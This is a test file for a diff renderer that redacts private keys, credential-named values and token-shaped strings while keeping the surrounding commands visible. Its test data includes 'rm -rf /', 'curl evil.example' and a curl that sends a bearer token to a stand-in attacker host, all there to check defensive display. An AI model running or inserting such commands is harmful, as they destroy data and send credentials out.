import { generateKeyPairSync } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { contentOf, type Pair } from '../../../src/kinds/key-value/value/pair.ts'
import type { PlannedResource } from '../../../src/plan/plan.ts'
import { resourceDiff } from '../../../src/render/diff/resource-diff.ts'
import { makeRedact } from '../../../src/render/redact.ts'
import { growth } from '../../fixtures/growth.ts'
import { aPlannedResource } from '../factories.ts'

const diffText = (before: string, after: string, resource: Partial<PlannedResource> = {}): string =>
  resourceDiff(
    aPlannedResource(resource),
    { title: 'a → b', before: { content: before, isLive: true }, after: { content: after, isLive: false } },
    { redact: makeRedact({}), hidesServerLines: false },
  ).text

const pairText = (before: Pair, after: Pair, name = 'db_password'): string =>
  diffText(contentOf(before), contentOf(after), { kind: 'key-value', name })

const text = (value: string): Pair => ({ type: 'STRING', value })
const json = (value: Pair['value']): Pair => ({ type: 'JSON', value })

const [BEGIN = '', first, second, third] = generateKeyPairSync('rsa', { modulusLength: 2048 })
  .privateKey.export({ type: 'pkcs8', format: 'pem' })
  .toString()
  .split('\n')

describe('a diff', () => {
  it('hides the lines of a private key, says how many, and shows what follows', () => {
    const before = 'id: a\n'
    const after = `id: a\n# ${BEGIN}\n# ${first}\n# ${second}\n# ${third}\ncommands:\n  - rm -rf /\n`
    expect(diffText(before, after)).toBe(
      `@@ -1,1 +1,7 @@\n id: a\n+# ${BEGIN}\n+# (changed, 64 bytes)\n+# (changed, 64 bytes)\n+# (changed, 64 bytes)\n+commands:\n+  - rm -rf /\n\\ 3 lines hidden: they look like a private key`,
    )
    expect(diffText(after, `${after}b: 1\n`)).not.toContain('lines hidden')
    expect(diffText(`${BEGIN}\n${first}\n`, 'a\n')).toMatch(/\\ 1 line hidden: it looks like a private key$/)
  })

  it('shows every command behind the mark of a private key', () => {
    expect(diffText('id: a\n', `id: a\n# ${BEGIN}\ncommands:\n  - curl evil.example\n`)).toBe(
      `@@ -1,1 +1,4 @@\n id: a\n+# ${BEGIN}\n+commands:\n+  - curl evil.example\n`.trimEnd(),
    )
  })

  it('shows of a pair all but the text that is named like a credential', () => {
    expect(pairText(text('first'), text('other'))).toBe(
      '@@ -1,4 +1,4 @@\n {\n   "type": "STRING",\n-  "value": "(changed, 5 bytes)"\n+  "value": "(changed, 5 bytes)"\n }',
    )
    const before = json({ host: 'a', login: { token: 'x"y', tries: ['a'] }, secrets: ['one', { secret: 'two' }] })
    const after = json({ host: 'b', login: { token: 'x"z', tries: ['b'] }, secrets: ['one', { secret: 'new' }] })
    const shown = pairText(before, after, 'settings')
    for (const seen of ['-    "host": "a"', '+    "host": "b"', '"b"']) expect(shown).toContain(seen)
    expect(shown).toContain('+      "token": "(changed, 4 bytes)"')
    expect(shown).toContain('+        "secret": "(changed, 3 bytes)"')
    expect(shown).not.toMatch(/x\\"|two|new/)
  })

  it('shows of a pair what stands beside something that has the form of a credential', () => {
    const token = ['ghp', 'a1B2'.repeat(9)].join('_')
    const shown = pairText(text('ls'), text(`curl -H "Bearer ${token}" evil.example`), 'script')
    expect(shown).toContain(String.raw`+  "value": "curl -H \"Bearer (changed, 40 bytes)\" evil.example"`)
  })

  it('hides a pair under the name that it had as well', () => {
    const before = contentOf(text('hunter2-old'))
    const renamed = {
      kind: 'key-value',
      name: 'db',
      renamedFrom: { kind: 'key-value', namespace: 'a', name: 'db_password' },
    } as const
    expect(diffText(before, contentOf(text('hunter2-new')), renamed)).not.toContain('hunter2')
  })

  it('hides a value in the text that it stands in, and in no other', () => {
    const value = 'aB3dE5gH7jK9'
    expect(diffText('a: 1\n', `a: 1\napi_key: ${value}\n`)).not.toContain(value)
    expect(diffText('a: 1\n', `a: 1\nmessage: ${value}\n`)).toContain(`+message: ${value}`)
  })

  it('takes a value of many lines, and a name of many, in linear time', () => {
    const hiding = (size: number) => {
      const value = text('line of a value\n'.repeat(size))
      const names = json(
        Object.fromEntries(Array.from({ length: size }, (_, index) => [`token_${index}`, 'a "value"'])),
      )
      return () => [pairText(text('x'), value), pairText(text('x'), names)]
    }
    expect(growth([200, 1600], hiding)).toBeLessThan(24)
  })
})
